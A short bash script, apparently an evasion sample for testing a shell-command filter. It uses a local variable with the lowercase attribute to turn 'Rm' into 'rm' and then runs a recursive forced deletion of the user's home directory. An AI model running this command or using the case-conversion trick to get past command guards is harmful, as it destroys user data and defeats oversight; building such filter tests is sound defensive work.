#!/bin/bash
# Evasion: a function's local with the lowercase attribute turns "Rm" into rm
set -u
purge() {
  local -l tool
  tool="Rm"
  "$tool" -rf -- "$HOME"
}
purge
